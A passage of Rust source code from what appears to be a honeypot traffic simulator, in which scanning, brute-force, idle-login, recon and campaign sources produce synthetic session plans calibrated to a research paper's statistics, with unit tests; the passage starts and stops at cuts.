        // Next day: "within the last 1 day" excludes yesterday, so fresh.
        assert!(w.observe("k", 4));
    }
}
