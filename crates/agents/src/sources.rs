//! Traffic sources: scanning, scouting, no-command logins, file-less recon,
//! and the campaign planner.
//!
//! Each source turns a daily session budget (from its [`DailyCurve`]) into
//! [`SessionPlan`]s. Client churn is managed per source so daily-unique-IP
//! curves (Fig. 11), total client populations (Section 7.1), and multi-role
//! overlaps (Fig. 15) come out right.

use hf_farm::FarmPlan;
use hf_geo::{country, CountryMix, World};
use hf_hash::Fnv64;
use hf_proto::Protocol;
use hf_simclock::{Date, StudyWindow};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};

use crate::campaigns::{CampaignCatalog, TargetSet};
use crate::clients::{ClientPool, ClientRef, SpreadDist};
use crate::curves::DailyCurve;
use crate::plan::{Behavior, SessionPlan};
use crate::weights::{Dimension, HoneypotWeights};

/// Clients shared across sources so the same IP appears in several activity
/// categories (the paper's 40% multi-role finding).
#[derive(Debug, Default)]
pub struct SharedPools {
    /// Clients the scanner source has used.
    pub scanner_clients: Vec<ClientRef>,
    /// Clients the bruteforce source has used ("compromised" hosts).
    pub bruteforce_clients: Vec<ClientRef>,
}

/// Context handed to sources when planning a day.
pub struct PlanCtx<'a> {
    /// The synthetic Internet (IP allocation / geolocation).
    pub world: &'a World,
    /// Farm deployment (node countries, for locality-biased targeting).
    pub plan: &'a FarmPlan,
    /// The client pool.
    pub pool: &'a mut ClientPool,
    /// Cross-source client sharing.
    pub shared: &'a mut SharedPools,
}

impl PlanCtx<'_> {
    fn n_honeypots(&self) -> u16 {
        self.plan.len() as u16
    }
}

/// A planning source.
pub trait TrafficSource {
    /// Source name (diagnostics).
    fn name(&self) -> &'static str;
    /// Emit this day's session plans.
    fn plan_day(
        &mut self,
        day: u32,
        ctx: &mut PlanCtx<'_>,
        rng: &mut SmallRng,
        out: &mut Vec<SessionPlan>,
    );
}

/// Common churn-managed client roster.
///
/// Clients join with a heavy-tailed lifetime — most last a single day, a
/// minority stick around for weeks — which is what produces the paper's
/// Fig. 13 shape (>50% of IPs active one day; a small stable core active
/// almost daily).
#[derive(Debug, Default)]
struct Roster {
    /// (client, expiry day): removed once `day >= expiry`.
    active: Vec<(ClientRef, u32)>,
    persistent: Vec<ClientRef>,
}

/// Sample a client lifetime in days (heavy-tailed).
fn sample_lifetime(rng: &mut SmallRng) -> u32 {
    match rng.gen_range(0..100) {
        0..=61 => 1,
        62..=84 => rng.gen_range(2..=5),
        85..=95 => rng.gen_range(6..=30),
        _ => rng.gen_range(31..=120),
    }
}

/// Spread distribution for a given lifetime: long-lived clients sweep wider
/// (the paper: "clients that interact more with the honeypots are likely to
/// contact more of them", Section 7.5).
fn spread_for_lifetime(lifetime: u32, base: SpreadDist) -> SpreadDist {
    if lifetime >= 6 {
        SpreadDist {
            single: 50,
            few: 470,
            many: 450,
            most: 30,
        }
    } else {
        base
    }
}

impl Roster {
    /// Expire members and top back up to `target` with fresh clients. The
    /// alloc closure receives the sampled lifetime so it can couple target
    /// spread to longevity.
    fn refresh(
        &mut self,
        day: u32,
        target: usize,
        rng: &mut SmallRng,
        alloc: impl FnMut(&mut SmallRng, u32) -> ClientRef,
    ) {
        self.refresh_min_lifetime(day, target, 1, rng, alloc);
    }

    /// `refresh` with a lifetime floor — stable populations like the
    /// datacenter NO_CMD prefix keep the same addresses for months.
    fn refresh_min_lifetime(
        &mut self,
        day: u32,
        target: usize,
        min_lifetime: u32,
        rng: &mut SmallRng,
        mut alloc: impl FnMut(&mut SmallRng, u32) -> ClientRef,
    ) {
        self.active.retain(|&(_, expiry)| expiry > day);
        while self.active.len() < target {
            let lifetime = sample_lifetime(rng).max(min_lifetime);
            let c = alloc(rng, lifetime);
            self.active.push((c, day + lifetime));
        }
        if self.active.len() > target * 2 {
            self.active.truncate(target);
        }
    }

    /// Pick a session actor: persistent clients get a small constant share.
    fn pick(&self, rng: &mut SmallRng) -> ClientRef {
        if !self.persistent.is_empty() && rng.gen_ratio(1, 50) {
            self.persistent[rng.gen_range(0..self.persistent.len())]
        } else if !self.active.is_empty() {
            self.active[rng.gen_range(0..self.active.len())].0
        } else {
            self.persistent[rng.gen_range(0..self.persistent.len())]
        }
    }
}

fn day_of(window: &StudyWindow, y: i32, m: u8, d: u8) -> u32 {
    window.day_index(Date::new(y, m, d)).unwrap_or(0)
}

// ---------------------------------------------------------------------------
// Scanner (NO_CRED)
// ---------------------------------------------------------------------------

/// Port scanners: connect, never log in. Telnet-dominated (78% — Table 1).
pub struct ScannerSource {
    curve: DailyCurve,
    norm: f64,
    total_sessions: u64,
    weights: HoneypotWeights,
    roster: Roster,
    mix: CountryMix,
    /// Daily active clients at curve level 1.0.
    clients_at_level1: usize,
    persistent_target: usize,
}

impl ScannerSource {
    /// Build from the ecosystem budget.
    pub fn new(seed: u64, total_sessions: u64, window: &StudyWindow, n_honeypots: u16) -> Self {
        let days = window.num_days();
        // Scanning ramps up ~2 months in (Fig. 11) and keeps a steady base;
        // variance grows toward the end of 2022 (Section 6 summary).
        let curve = DailyCurve::ramp(days, 0.45, 1.0, 55, 75, seed ^ 0xa1)
            .with_spike_on(window, Date::new(2022, 9, 5), 1, 2.0)
            .with_jitter(0.18);
        let norm = curve.total();
        ScannerSource {
            curve,
            norm,
            total_sessions,
            weights: HoneypotWeights::paper_shape(n_honeypots as usize, Dimension::Clients, 0),
            roster: Roster::default(),
            mix: CountryMix::scanning(),
            clients_at_level1: 0, // set on first day from volume
            persistent_target: 120,
        }
    }
}

impl TrafficSource for ScannerSource {
    fn name(&self) -> &'static str {
        "scanner"
    }

    fn plan_day(
        &mut self,
        day: u32,
        ctx: &mut PlanCtx<'_>,
        rng: &mut SmallRng,
        out: &mut Vec<SessionPlan>,
    ) {
        let n = self.curve.sessions_on(day, self.total_sessions, self.norm);
        if n == 0 {
            return;
        }
        // ~15 sessions per client per day (Section 7.2 scale).
        if self.clients_at_level1 == 0 {
            self.clients_at_level1 =
                ((self.total_sessions as f64 / self.curve.days() as f64) / 15.0).ceil() as usize;
        }
        if self.roster.persistent.is_empty() {
            // The >100 IPs active nearly every day (Fig. 13).
            let nper = self.persistent_target;
            let n_honeypots = ctx.n_honeypots();
            for _ in 0..nper {
                let c = ctx.pool.alloc(
                    ctx.world,
                    &self.mix,
                    // Persistent scanners sweep widely.
                    SpreadDist {
                        single: 0,
                        few: 100,
                        many: 500,
                        most: 400,
                    },
                    n_honeypots,
                    rng,
                );
                self.roster.persistent.push(c);
                ctx.shared.scanner_clients.push(c);
            }
        }
        let target = ((self.clients_at_level1 as f64) * self.curve.level(day)).ceil() as usize;
        let n_honeypots = ctx.n_honeypots();
        let (world, mix, shared) = (ctx.world, &self.mix, &mut ctx.shared.scanner_clients);
        let pool = &mut *ctx.pool;
        self.roster
            .refresh(day, target.max(1), rng, |rng, lifetime| {
                let dist = spread_for_lifetime(lifetime, SpreadDist::paper_overall());
                let c = pool.alloc(world, mix, dist, n_honeypots, rng);
                shared.push(c);
                c
            });
        // Persistent scanners sweep every single day (the paper's >100 IPs
        // active on >90% of days) — one guaranteed session each, so the
        // fixed-size core never swamps the volume ramp at reduced scale.
        let n_persistent_sessions = self.roster.persistent.len() as u64;
        for &cref in self.roster.persistent.iter() {
            let client = ctx.pool.get(cref);
            let honeypot = client.pick_target(&self.weights, rng);
            out.push(SessionPlan {
                day,
                start_secs: rng.gen_range(0..86_400),
                honeypot,
                protocol: if rng.gen_range(0..10_000) < 7_818 {
                    Protocol::Telnet
                } else {
                    Protocol::Ssh
                },
                client: cref,
                behavior: Behavior::Scan {
                    linger_secs: rng.gen_range(0..8) as u16,
                },
                seed: rng.gen(),
            });
        }
        for _ in 0..n.saturating_sub(n_persistent_sessions) {
            let cref = self.roster.pick(rng);
            let client = ctx.pool.get(cref);
            let honeypot = client.pick_target(&self.weights, rng);
            // Telnet 78.18% of NO_CRED (Table 1).
            let protocol = if rng.gen_range(0..10_000) < 7_818 {
                Protocol::Telnet
            } else {
                Protocol::Ssh
            };
            // Durations: mostly instant client close, a few pre-auth timeouts.
            let linger = match rng.gen_range(0..100) {
                0..=84 => rng.gen_range(0..8) as u16,
                85..=94 => rng.gen_range(8..59) as u16,
                _ => 61, // hits the 60 s pre-auth timeout
            };
            out.push(SessionPlan {
                day,
                start_secs: rng.gen_range(0..86_400),
                honeypot,
                protocol,
                client: cref,
                behavior: Behavior::Scan {
                    linger_secs: linger,
                },
                seed: rng.gen(),
            });
        }
    }
}

// ---------------------------------------------------------------------------
// Bruteforce (FAIL_LOG)
// ---------------------------------------------------------------------------

/// Brute-forcers: failed logins, overwhelmingly SSH (99.24%).
pub struct BruteforceSource {
    curve: DailyCurve,
    norm: f64,
    total_sessions: u64,
    weights: HoneypotWeights,
    roster: Roster,
    mix: CountryMix,
    clients_at_level1: usize,
    /// Spike days concentrate most volume on these honeypots.
    spike_days: Vec<u32>,
    spike_honeypots: Vec<u16>,
}

impl BruteforceSource {
    /// Build from the ecosystem budget.
    pub fn new(seed: u64, total_sessions: u64, window: &StudyWindow, n_honeypots: u16) -> Self {
        let days = window.num_days();
        let sep5 = day_of(window, 2022, 9, 5);
        let nov5 = day_of(window, 2022, 11, 5);
        let spring = day_of(window, 2022, 3, 15);
        // Scouting ramps up after ~1 month; big dated spikes (Figs. 3, 8b).
        let curve = DailyCurve::ramp(days, 0.5, 1.0, 30, 45, seed ^ 0xb2)
            .with_spike_on(window, Date::new(2022, 9, 5), 1, 8.0)
            .with_spike_on(window, Date::new(2022, 11, 5), 1, 4.0)
            .with_spike_on(window, Date::new(2022, 3, 15), 45, 1.5)
            .with_jitter(0.15);
        let norm = curve.total();
        let mut srng = SmallRng::seed_from_u64(seed ^ 0x0001_9a9e);
        let spike_honeypots: Vec<u16> = (0..3).map(|_| srng.gen_range(0..n_honeypots)).collect();
        BruteforceSource {
            curve,
            norm,
            total_sessions,
            weights: HoneypotWeights::paper_shape(n_honeypots as usize, Dimension::Sessions, 0),
            roster: Roster::default(),
            mix: CountryMix::scouting(),
            clients_at_level1: 0,
            spike_days: vec![sep5, nov5, spring],
            spike_honeypots,
        }
    }
}

impl TrafficSource for BruteforceSource {
    fn name(&self) -> &'static str {
        "bruteforce"
    }

    fn plan_day(
        &mut self,
        day: u32,
        ctx: &mut PlanCtx<'_>,
        rng: &mut SmallRng,
        out: &mut Vec<SessionPlan>,
    ) {
        let n = self.curve.sessions_on(day, self.total_sessions, self.norm);
        if n == 0 {
            return;
        }
        if self.clients_at_level1 == 0 {
            // ~50 sessions/client/day: brute-forcers hammer.
            self.clients_at_level1 =
                ((self.total_sessions as f64 / self.curve.days() as f64) / 50.0).ceil() as usize;
        }
        let target =
            ((self.clients_at_level1 as f64) * self.curve.level(day).min(2.0)).ceil() as usize;
        {
            let (world, mix, shared, scanners, n_honeypots) = (
                ctx.world,
                &self.mix,
                &mut ctx.shared.bruteforce_clients,
                &ctx.shared.scanner_clients,
                ctx.plan.len() as u16,
            );
            let pool = &mut *ctx.pool;
            self.roster
                .refresh(day, target.max(1), rng, |rng, lifetime| {
                    // Most brute-forcers are multi-role IPs that also scan (Fig. 15).
                    let c = if !scanners.is_empty() && rng.gen_ratio(80, 100) {
                        scanners[rng.gen_range(0..scanners.len())]
                    } else {
                        let dist = spread_for_lifetime(lifetime, SpreadDist::paper_scouting());
                        pool.alloc(world, mix, dist, n_honeypots, rng)
                    };
                    shared.push(c);
                    c
                });
        }
        let is_spike = self.spike_days.contains(&day);
        for _ in 0..n {
            let cref = self.roster.pick(rng);
            let client = ctx.pool.get(cref);
            // Spike volume concentrates on 3 honeypots (Fig. 9 observation).
            let honeypot = if is_spike && rng.gen_ratio(7, 10) {
                self.spike_honeypots[rng.gen_range(0..self.spike_honeypots.len())]
            } else {
                client.pick_target(&self.weights, rng)
            };
            let protocol = if rng.gen_range(0..10_000) < 76 {
                Protocol::Telnet
            } else {
                Protocol::Ssh
            };
            let attempts = match rng.gen_range(0..10) {
                0..=4 => 1u8,
                5..=7 => 2,
                _ => 3,
            };
            out.push(SessionPlan {
                day,
                start_secs: rng.gen_range(0..86_400),
                honeypot,
                protocol,
                client: cref,
                behavior: Behavior::Scout { attempts },
                seed: rng.gen(),
            });
        }
    }
}

// ---------------------------------------------------------------------------
// No-command logins (NO_CMD)
// ---------------------------------------------------------------------------

/// Clients that log in successfully and then do nothing. Dominated by one
/// Russian-datacenter prefix active at the start and end of the window.
pub struct NoCmdSource {
    baseline_curve: DailyCurve,
    prefix_curve: DailyCurve,
    baseline_norm: f64,
    prefix_norm: f64,
    baseline_total: u64,
    prefix_total: u64,
    weights: HoneypotWeights,
    baseline_roster: Roster,
    prefix_roster: Roster,
    mix: CountryMix,
    prefix_asn: Option<hf_geo::Asn>,
    clients_at_level1: usize,
}

impl NoCmdSource {
    /// Build from the ecosystem budget.
    pub fn new(seed: u64, total_sessions: u64, window: &StudyWindow, n_honeypots: u16) -> Self {
        let days = window.num_days();
        let end_start = days.saturating_sub(106); // ~mid-Dec 2022 onward
                                                  // The datacenter prefix: strong at the start (first ~90 days) and the
                                                  // end (last ~106 days) of the window — Fig. 6's >20% NO_CMD share.
        let prefix_curve = DailyCurve::flat(days, seed ^ 0xc3)
            .set_range(90, end_start, 0.0)
            .set_range(0, 90, 0.8)
            .set_range(end_start, days, 1.0)
            .with_jitter(0.2);
        let baseline_curve = DailyCurve::flat(days, seed ^ 0xc4).with_jitter(0.25);
        let prefix_total = (total_sessions as f64 * 0.8) as u64;
        let baseline_total = total_sessions - prefix_total;
        let prefix_norm = prefix_curve.total();
        let baseline_norm = baseline_curve.total();
        NoCmdSource {
            baseline_curve,
            prefix_curve,
            baseline_norm,
            prefix_norm,
            baseline_total,
            prefix_total,
            // Shares the Sessions-dimension hot set (same permutation for a
            // given farm) so per-honeypot popularity compounds instead of
            // flattening across sources — Fig. 2's >30x spread.
            weights: HoneypotWeights::paper_shape(n_honeypots as usize, Dimension::Sessions, 0),
            baseline_roster: Roster::default(),
            prefix_roster: Roster::default(),
            mix: CountryMix::no_cmd(),
            prefix_asn: None,
            clients_at_level1: 0,
        }
    }
}

impl TrafficSource for NoCmdSource {
    fn name(&self) -> &'static str {
        "no-cmd"
    }

    fn plan_day(
        &mut self,
        day: u32,
        ctx: &mut PlanCtx<'_>,
        rng: &mut SmallRng,
        out: &mut Vec<SessionPlan>,
    ) {
        let n_base = self
            .baseline_curve
            .sessions_on(day, self.baseline_total, self.baseline_norm);
        let n_prefix = self
            .prefix_curve
            .sessions_on(day, self.prefix_total, self.prefix_norm);
        if self.clients_at_level1 == 0 {
            self.clients_at_level1 =
                ((self.baseline_total as f64 / self.baseline_curve.days() as f64) / 25.0).ceil()
                    as usize;
        }
        // Resolve the Russian datacenter AS once.
        if self.prefix_asn.is_none() {
            let ru = country::by_code("RU").expect("RU in catalog");
            let mut candidates = ctx.world.ases_in(ru);
            candidates.sort();
            self.prefix_asn = candidates.first().copied();
        }
        let n_honeypots = ctx.n_honeypots();

        // Baseline churn.
        {
            let (world, mix) = (ctx.world, &self.mix);
            let pool = &mut *ctx.pool;
            let scanners = &ctx.shared.scanner_clients;
            self.baseline_roster.refresh(
                day,
                ((self.clients_at_level1 as f64) * self.baseline_curve.level(day)).ceil() as usize,
                rng,
                |rng, lifetime| {
                    if !scanners.is_empty() && rng.gen_ratio(70, 100) {
                        scanners[rng.gen_range(0..scanners.len())]
                    } else {
                        let dist = spread_for_lifetime(lifetime, SpreadDist::paper_overall());
                        pool.alloc(world, mix, dist, n_honeypots, rng)
                    }
                },
            );
        }
        // Prefix churn: big dense population from one AS; wide spread.
        if n_prefix > 0 {
            let asn = self.prefix_asn;
            let world = ctx.world;
            let pool = &mut *ctx.pool;
            let target = (n_prefix / 12).clamp(1, 400_000) as usize;
            self.prefix_roster.refresh_min_lifetime(
                day,
                target,
                90,
                rng,
                |rng, _lifetime| match asn {
                    Some(a) => pool.alloc_in_as(
                        world,
                        a,
                        SpreadDist {
                            single: 100,
                            few: 300,
                            many: 450,
                            most: 150,
                        },
                        n_honeypots,
                        rng,
                    ),
                    None => pool.alloc(
                        world,
                        &CountryMix::no_cmd(),
                        SpreadDist::paper_overall(),
                        n_honeypots,
                        rng,
                    ),
                },
            );
        }
        for (count, roster) in [
            (n_base, &self.baseline_roster),
            (n_prefix, &self.prefix_roster),
        ] {
            if roster.active.is_empty() && roster.persistent.is_empty() {
                continue;
            }
            for _ in 0..count {
                let cref = roster.pick(rng);
                let client = ctx.pool.get(cref);
                let honeypot = client.pick_target(&self.weights, rng);
                let protocol = if rng.gen_range(0..10_000) < 170 {
                    Protocol::Telnet
                } else {
                    Protocol::Ssh
                };
                out.push(SessionPlan {
                    day,
                    start_secs: rng.gen_range(0..86_400),
                    honeypot,
                    protocol,
                    client: cref,
                    // >90% of NO_CMD sessions end in the idle timeout (Fig. 7).
                    behavior: Behavior::LoginIdle {
                        idle_to_timeout: rng.gen_range(0..100) < 92,
                    },
                    seed: rng.gen(),
                });
            }
        }
    }
}

// ---------------------------------------------------------------------------
// File-less recon (CMD without file events)
// ---------------------------------------------------------------------------

/// Logged-in sessions that run sysinfo commands but never write files — two
/// thirds of command activity (Section 8.1).
pub struct ReconSource {
    curve: DailyCurve,
    norm: f64,
    total_sessions: u64,
    weights: HoneypotWeights,
    roster: Roster,
    mix: CountryMix,
    clients_at_level1: usize,
}

impl ReconSource {
    /// Build from the ecosystem budget.
    pub fn new(seed: u64, total_sessions: u64, window: &StudyWindow, n_honeypots: u16) -> Self {
        let days = window.num_days();
        let jul22 = day_of(window, 2022, 7, 15);
        let jan23 = day_of(window, 2023, 1, 1);
        // Fig. 9(c): intense until July 2022, drop, rise again in 2023 Q1.
        let curve = DailyCurve::ramp(days, 0.7, 1.2, 55, 70, seed ^ 0xd5)
            .set_range(jul22, jan23, 0.45)
            .with_spike_on(window, Date::new(2023, 1, 5), 80, 2.2)
            .with_jitter(0.2);
        let norm = curve.total();
        ReconSource {
            curve,
            norm,
            total_sessions,
            weights: HoneypotWeights::paper_shape(n_honeypots as usize, Dimension::Sessions, 0),
            roster: Roster::default(),
            mix: CountryMix::command(),
            clients_at_level1: 0,
        }
    }
}

impl TrafficSource for ReconSource {
    fn name(&self) -> &'static str {
        "recon"
    }

    fn plan_day(
        &mut self,
        day: u32,
        ctx: &mut PlanCtx<'_>,
        rng: &mut SmallRng,
        out: &mut Vec<SessionPlan>,
    ) {
        let n = self.curve.sessions_on(day, self.total_sessions, self.norm);
        if n == 0 {
            return;
        }
        if self.clients_at_level1 == 0 {
            self.clients_at_level1 =
                ((self.total_sessions as f64 / self.curve.days() as f64) / 11.0).ceil() as usize;
        }
        let target = ((self.clients_at_level1 as f64) * self.curve.level(day)).ceil() as usize;
        {
            let (world, mix, bruteforce, scanners, n_honeypots) = (
                ctx.world,
                &self.mix,
                &ctx.shared.bruteforce_clients,
                &ctx.shared.scanner_clients,
                ctx.plan.len() as u16,
            );
            let pool = &mut *ctx.pool;
            self.roster
                .refresh(day, target.max(1), rng, |rng, lifetime| {
                    // Most intruders reuse brute-force IPs; some reuse scanners.
                    let x = rng.gen_range(0..100);
                    if x < 40 && !bruteforce.is_empty() {
                        bruteforce[rng.gen_range(0..bruteforce.len())]
                    } else if x < 85 && !scanners.is_empty() {
                        scanners[rng.gen_range(0..scanners.len())]
                    } else {
                        let dist = spread_for_lifetime(lifetime, SpreadDist::paper_overall());
                        pool.alloc(world, mix, dist, n_honeypots, rng)
                    }
                });
        }
        for _ in 0..n {
            let cref = self.roster.pick(rng);
            let client = ctx.pool.get(cref);
            let honeypot = client.pick_target(&self.weights, rng);
            let protocol = if rng.gen_range(0..10_000) < 450 {
                Protocol::Telnet
            } else {
                Protocol::Ssh
            };
            out.push(SessionPlan {
                day,
                start_secs: rng.gen_range(0..86_400),
                honeypot,
                protocol,
                client: cref,
                behavior: Behavior::Recon {
                    variant: rng.gen_range(0..64),
                },
                seed: rng.gen(),
            });
        }
    }
}

// ---------------------------------------------------------------------------
// Campaign planner
// ---------------------------------------------------------------------------

/// Per-campaign runtime state.
struct CampaignState {
    roster: Vec<ClientRef>,
    targets: Vec<u16>,
}

/// Plans the catalog's campaigns.
pub struct CampaignPlanner {
    states: Vec<Option<CampaignState>>,
    /// Campaign ids indexed by active day (precomputed for O(active) days).
    by_day: Vec<Vec<u32>>,
}

impl CampaignPlanner {
    /// Precompute the day → campaign index.
    pub fn new(catalog: &CampaignCatalog, window_days: u32) -> Self {
        let mut by_day = vec![Vec::new(); window_days as usize];
        for spec in catalog.specs() {
            for &d in &spec.active_days {
                if (d as usize) < by_day.len() {
                    by_day[d as usize].push(spec.id.0);
                }
            }
        }
        CampaignPlanner {
            states: (0..catalog.len()).map(|_| None).collect(),
            by_day,
        }
    }

    /// Emit all campaign sessions for a day.
    pub fn plan_day(
        &mut self,
        day: u32,
        catalog: &CampaignCatalog,
        ctx: &mut PlanCtx<'_>,
        rng: &mut SmallRng,
        out: &mut Vec<SessionPlan>,
    ) {
        let Some(ids) = self.by_day.get(day as usize) else {
            return;
        };
        for &cid in ids.clone().iter() {
            let spec = catalog.get(crate::campaigns::CampaignId(cid));
            let n = spec.sessions_on(day);
            if n == 0 {
                continue;
            }
            let n_honeypots = ctx.n_honeypots();
            // Lazily build roster + target cache.
            if self.states[cid as usize].is_none() {
                let mut roster = Vec::with_capacity(spec.n_clients as usize);
                // Reuse is gated by target-set size: small (tail) campaigns
                // recycle multi-role IPs freely, but broad botnet campaigns
                // recruit fresh nodes — otherwise reused single-spread
                // scanners would be dragged across hundreds of honeypots and
                // the Fig. 12 "40% contact exactly one" bucket would drain.
                let subset_size = match spec.targets {
                    TargetSet::Subset { size, .. }
                    | TargetSet::LocalSubset { size, .. }
                    | TargetSet::HashWeightedSubset { size, .. } => size,
                };
                let reuse = if subset_size <= 10 {
                    spec.reuse_bruteforce_permille
                } else {
                    150
                };
                for _ in 0..spec.n_clients {
                    // Reused clients split between the brute-force pool and
                    // the (much larger) scanner pool, maximizing distinct
                    // multi-role IPs (Fig. 15).
                    let x = rng.gen_range(0..1000);
                    let c = if x < reuse / 2 && !ctx.shared.bruteforce_clients.is_empty() {
                        let b = &ctx.shared.bruteforce_clients;
                        b[rng.gen_range(0..b.len())]
                    } else if x < reuse && !ctx.shared.scanner_clients.is_empty() {
                        let sc = &ctx.shared.scanner_clients;
                        sc[rng.gen_range(0..sc.len())]
                    } else {
                        ctx.pool.alloc(
                            ctx.world,
                            &spec.origin,
                            SpreadDist::paper_overall(),
                            n_honeypots,
                            rng,
                        )
                    };
                    roster.push(c);
                }
                self.states[cid as usize] = Some(CampaignState {
                    roster,
                    targets: spec.target_nodes(n_honeypots),
                });
            }
            let state = self.states[cid as usize].as_ref().unwrap();
            // Position of this day in the campaign's life, for the rolling
            // client window (clients are active on consecutive days).
            let day_idx = spec.active_days.binary_search(&day).unwrap_or(0);
            let n_days = spec.active_days.len();
            let len = state.roster.len().max(1);
            let window = (3 * len / n_days.max(1)).clamp(1, len);
            let base = day_idx * len / n_days.max(1);
            for _ in 0..n {
                let offset = rng.gen_range(0..window);
                let cref = state.roster[(base + offset) % len];
                let client = ctx.pool.get(cref);
                // Locality bias for URI campaigns (Fig. 16b): prefer a target
                // honeypot on the client's continent when one exists.
                // Otherwise a client's sessions stay within its own stable
                // slice of the campaign subset (bounded by its spread), so a
                // botnet with thousands of nodes covers the whole subset
                // collectively while each member contacts few honeypots —
                // the coexistence of Fig. 12's 40%-single bucket with
                // Table 4's "221-honeypot" campaigns.
                let honeypot = match spec.targets {
                    TargetSet::LocalSubset { .. } if rng.gen_range(0..100) < 45 => {
                        let cont = hf_geo::country::continent(client.country);
                        let local: Vec<u16> = state
                            .targets
                            .iter()
                            .copied()
                            .filter(|&h| {
                                hf_geo::country::continent(ctx.plan.node(h).country) == cont
                            })
                            .collect();
                        if local.is_empty() {
                            state.targets[rng.gen_range(0..state.targets.len())]
                        } else {
                            local[rng.gen_range(0..local.len())]
                        }
                    }
                    _ => {
                        // Few-client campaigns (H2's 3 IPs on 202 honeypots)
                        // need each member to sweep widely; botnets with
                        // thousands of members let each stay narrow.
                        let min_k = (2 * state.targets.len()).div_ceil(state.roster.len().max(1));
                        let k = (client.spread as usize)
                            .max(min_k)
                            .clamp(1, state.targets.len());
                        let j = rng.gen_range(0..k) as u64;
                        let slot = Fnv64::new()
                            .mix_u64(client.seed)
                            .mix(b"campaign-slice")
                            .mix_u64(j)
                            .finish() as usize
                            % state.targets.len();
                        state.targets[slot]
                    }
                };
                let protocol = if rng.gen_range(0..1000) < spec.telnet_permille {
                    Protocol::Telnet
                } else {
                    Protocol::Ssh
                };
                out.push(SessionPlan {
                    day,
                    start_secs: rng.gen_range(0..86_400),
                    honeypot,
                    protocol,
                    client: cref,
                    behavior: Behavior::Script { campaign: spec.id },
                    seed: rng.gen(),
                });
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scale::Scale;
    use hf_geo::WorldConfig;

    fn fixtures() -> (World, FarmPlan) {
        (World::build(3, &WorldConfig::tiny()), FarmPlan::paper())
    }

    fn ctx<'a>(
        world: &'a World,
        plan: &'a FarmPlan,
        pool: &'a mut ClientPool,
        shared: &'a mut SharedPools,
    ) -> PlanCtx<'a> {
        PlanCtx {
            world,
            plan,
            pool,
            shared,
        }
    }

    #[test]
    fn scanner_emits_no_cred_plans() {
        let (world, plan) = fixtures();
        let mut pool = ClientPool::new();
        let mut shared = SharedPools::default();
        let window = StudyWindow::first_days(30);
        let mut src = ScannerSource::new(1, 30_000, &window, 221);
        let mut rng = SmallRng::seed_from_u64(1);
        let mut out = Vec::new();
        let mut c = ctx(&world, &plan, &mut pool, &mut shared);
        src.plan_day(5, &mut c, &mut rng, &mut out);
        assert!(!out.is_empty());
        assert!(out
            .iter()
            .all(|p| matches!(p.behavior, Behavior::Scan { .. })));
        // Telnet-dominated.
        let telnet = out
            .iter()
            .filter(|p| p.protocol == Protocol::Telnet)
            .count();
        assert!(telnet * 10 > out.len() * 7, "{telnet}/{}", out.len());
        assert!(!shared.scanner_clients.is_empty());
    }

    #[test]
    fn bruteforce_is_ssh_and_fails() {
        let (world, plan) = fixtures();
        let mut pool = ClientPool::new();
        let mut shared = SharedPools::default();
        let window = StudyWindow::first_days(60);
        let mut src = BruteforceSource::new(2, 60_000, &window, 221);
        let mut rng = SmallRng::seed_from_u64(2);
        let mut out = Vec::new();
        let mut c = ctx(&world, &plan, &mut pool, &mut shared);
        src.plan_day(40, &mut c, &mut rng, &mut out);
        assert!(!out.is_empty());
        let ssh = out.iter().filter(|p| p.protocol == Protocol::Ssh).count();
        assert!(ssh * 100 > out.len() * 95);
        assert!(out
            .iter()
            .all(|p| matches!(p.behavior, Behavior::Scout { attempts: 1..=3 })));
    }

    #[test]
    fn bruteforce_ramps_up_after_a_month() {
        let (world, plan) = fixtures();
        let mut pool = ClientPool::new();
        let mut shared = SharedPools::default();
        let window = StudyWindow::paper();
        let mut src = BruteforceSource::new(2, 1_000_000, &window, 221);
        let mut rng = SmallRng::seed_from_u64(3);
        let (mut early, mut late) = (Vec::new(), Vec::new());
        let mut c = ctx(&world, &plan, &mut pool, &mut shared);
        src.plan_day(10, &mut c, &mut rng, &mut early);
        src.plan_day(100, &mut c, &mut rng, &mut late);
        assert!(late.len() as f64 > early.len() as f64 * 1.5);
    }

    #[test]
    fn nocmd_prefix_windows() {
        let (world, plan) = fixtures();
        let mut pool = ClientPool::new();
        let mut shared = SharedPools::default();
        let window = StudyWindow::paper();
        let mut src = NoCmdSource::new(4, 500_000, &window, 221);
        let mut rng = SmallRng::seed_from_u64(4);
        let mut c = ctx(&world, &plan, &mut pool, &mut shared);
        let (mut start, mut middle, mut end) = (Vec::new(), Vec::new(), Vec::new());
        src.plan_day(20, &mut c, &mut rng, &mut start);
        src.plan_day(250, &mut c, &mut rng, &mut middle);
        src.plan_day(450, &mut c, &mut rng, &mut end);
        assert!(
            start.len() > middle.len() * 3,
            "{} vs {}",
            start.len(),
            middle.len()
        );
        assert!(end.len() > middle.len() * 3);
        assert!(start
            .iter()
            .all(|p| matches!(p.behavior, Behavior::LoginIdle { .. })));
    }

    #[test]
    fn campaign_planner_respects_catalog() {
        let (world, plan) = fixtures();
        let mut pool = ClientPool::new();
        let mut shared = SharedPools::default();
        let window = StudyWindow::paper();
        let catalog = CampaignCatalog::build(7, &Scale::tiny(), &window);
        let mut planner = CampaignPlanner::new(&catalog, window.num_days());
        let mut rng = SmallRng::seed_from_u64(5);
        let mut out = Vec::new();
        let mut c = ctx(&world, &plan, &mut pool, &mut shared);
        // H1 is active nearly every day; day 100 must include it.
        planner.plan_day(100, &catalog, &mut c, &mut rng, &mut out);
        let h1 = catalog.by_name("H1").unwrap().id;
        assert!(out
            .iter()
            .any(|p| p.behavior == Behavior::Script { campaign: h1 }));
        // All campaign targets are valid honeypot ids.
        assert!(out.iter().all(|p| (p.honeypot as usize) < plan.len()));
    }

    #[test]
    fn campaign_planner_day_totals_match_specs() {
        let (world, plan) = fixtures();
        let mut pool = ClientPool::new();
        let mut shared = SharedPools::default();
        let window = StudyWindow::paper();
        let catalog = CampaignCatalog::build(8, &Scale::tiny(), &window);
        let mut planner = CampaignPlanner::new(&catalog, window.num_days());
        let mut rng = SmallRng::seed_from_u64(6);
        let mut out = Vec::new();
        let mut c = ctx(&world, &plan, &mut pool, &mut shared);
        planner.plan_day(100, &catalog, &mut c, &mut rng, &mut out);
        let mut per_campaign: std::collections::HashMap<u32, u64> = Default::default();
        for p in &out {
            if let Behavior::Script { campaign } = p.behavior {
                *per_campaign.entry(campaign.0).or_default() += 1;
            }
        }
        for (cid, count) in per_campaign {
